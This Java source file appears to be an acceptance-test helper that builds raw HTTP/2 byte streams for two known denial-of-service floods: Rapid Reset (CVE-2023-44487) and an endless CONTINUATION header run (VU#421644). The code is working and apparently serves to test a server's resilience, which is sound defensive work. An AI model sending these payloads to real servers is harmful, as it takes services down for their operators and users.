package io.piboard.acceptance.ingest.http2;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.util.stream.IntStream;

/** Bytes of HTTP/2 (RFC 9113) that a client may send right after the connect, in the two ways that have hurt servers. */
public final class Frames {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII);
    private static final byte[] NOTHING = {};

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;

    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** {@code :method POST}, {@code :scheme http}, {@code :path /}, by their numbers in HPACK's static table. */
    private static final byte[] REQUEST = {(byte) 0x83, (byte) 0x86, (byte) 0x84};

    private static final byte[] CANCEL = {0, 0, 0, 8};

    /** {@code x-a: b}, as a literal that nobody needs to remember. */
    private static final byte[] ONE_MORE_HEADER = {0, 3, 'x', '-', 'a', 1, 'b'};

    private final ByteArrayOutputStream bytes = new ByteArrayOutputStream();

    private Frames() {
        bytes.writeBytes(PREFACE);
        frame(SETTINGS, 0, 0, NOTHING);
    }

    /** Requests that are taken back at once (CVE-2023-44487), as many frames as that. */
    public static byte[] resets(int frames) {
        var flood = new Frames();
        IntStream.range(0, frames / 2).map(number -> 2 * number + 1).forEach(flood::openAndReset);
        return flood.bytes.toByteArray();
    }

    /** A head that never ends (VU#421644). */
    public static byte[] continuations(int frames) {
        var flood = new Frames();
        flood.frame(HEADERS, END_STREAM, 1, REQUEST);
        IntStream.range(0, frames).forEach(number -> flood.frame(CONTINUATION, 0, 1, ONE_MORE_HEADER));
        return flood.bytes.toByteArray();
    }

    private void openAndReset(int stream) {
        frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
        frame(RST_STREAM, 0, stream, CANCEL);
    }

    private void frame(int type, int flags, int stream, byte[] payload) {
        number(payload.length, 3);
        bytes.write(type);
        bytes.write(flags);
        number(stream, 4);
        bytes.writeBytes(payload);
    }

    private void number(int value, int size) {
        for (int shift = 8 * (size - 1); shift >= 0; shift -= 8) {
            bytes.write(value >> shift);
        }
    }
}
